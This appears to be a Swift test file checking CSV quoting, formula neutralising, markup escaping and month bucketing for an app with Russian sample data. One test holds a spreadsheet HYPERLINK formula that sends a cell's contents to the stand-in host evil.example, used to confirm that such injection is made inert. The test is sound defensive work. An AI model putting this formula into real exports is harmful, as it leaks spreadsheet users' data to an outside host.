import Foundation
import OtklikCore
import Testing

/// The one CSV cell, markup escape and month bucket every writer uses.
@Suite struct TextHomesTests {
    @Test func csvCellsQuoteWhatWouldSplitARow() {
        #expect(CSVText.field("Рудня") == "Рудня")
        #expect(CSVText.field("ул. Ленина, 5") == "\"ул. Ленина, 5\"")
        #expect(CSVText.field("он сказал \"яма\"") == "\"он сказал \"\"яма\"\"\"")
        #expect(CSVText.field("две\nстроки") == "\"две\nстроки\"")
        #expect(CSVText.row(["a", "b,c", ""]) == "a,\"b,c\",")
    }

    @Test func csvCellsMakeFormulasInert() {
        // An address written to be run by a spreadsheet stays text.
        #expect(CSVText.field("=HYPERLINK(\"http://evil.example/?\"&A1;\"Открыть\")")
                == "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1;\"\"Открыть\"\")\"")
        for lead in ["+", "-", "@", "\t", "\r"] {
            #expect(CSVText.field(lead + "cmd").hasPrefix("'") || CSVText.field(lead + "cmd").hasPrefix("\"'"), "\(lead.debugDescription)")
        }
        // Numbers keep their sign.
        #expect(CSVText.field("-1.5") == "-1.5")
        #expect(CSVText.field("+7") == "+7")
    }

    @Test func markupEscapesAndKeepsEveryDocumentWellFormed() {
        #expect(MarkupText.escape("<a href=\"x\">Сосновка & 'Рудня'</a>")
                == "&lt;a href=&quot;x&quot;&gt;Сосновка &amp; &#39;Рудня&#39;&lt;/a&gt;")
        #expect(MarkupText.escape("a\rb\tc\nd") == "a&#13;b\tc\nd")
        #expect(MarkupText.escape("x\u{1}y\u{FFFE}") == "x\u{FFFD}y\u{FFFD}")
    }

    @Test func monthBucketsCountCalendarMonthsInUTC() throws {
        let jan31 = try Timestamp.parse("2025-01-31T23:59:59Z", field: "t")
        let feb1 = try Timestamp.parse("2025-02-01T00:00:00Z", field: "t")
        let dec = try Timestamp.parse("2024-12-15T12:00:00Z", field: "t")
        #expect(MonthBucket.start(of: jan31) == (try Timestamp.parse("2025-01-01T00:00:00Z", field: "t")))
        #expect(MonthBucket.index(of: feb1, from: jan31) == 1)
        #expect(MonthBucket.index(of: jan31, from: jan31) == 0)
        #expect(MonthBucket.index(of: dec, from: jan31) == -1)
        #expect(MonthBucket.index(of: try Timestamp.parse("2026-01-01T00:00:00Z", field: "t"), from: dec) == 13)
    }
}
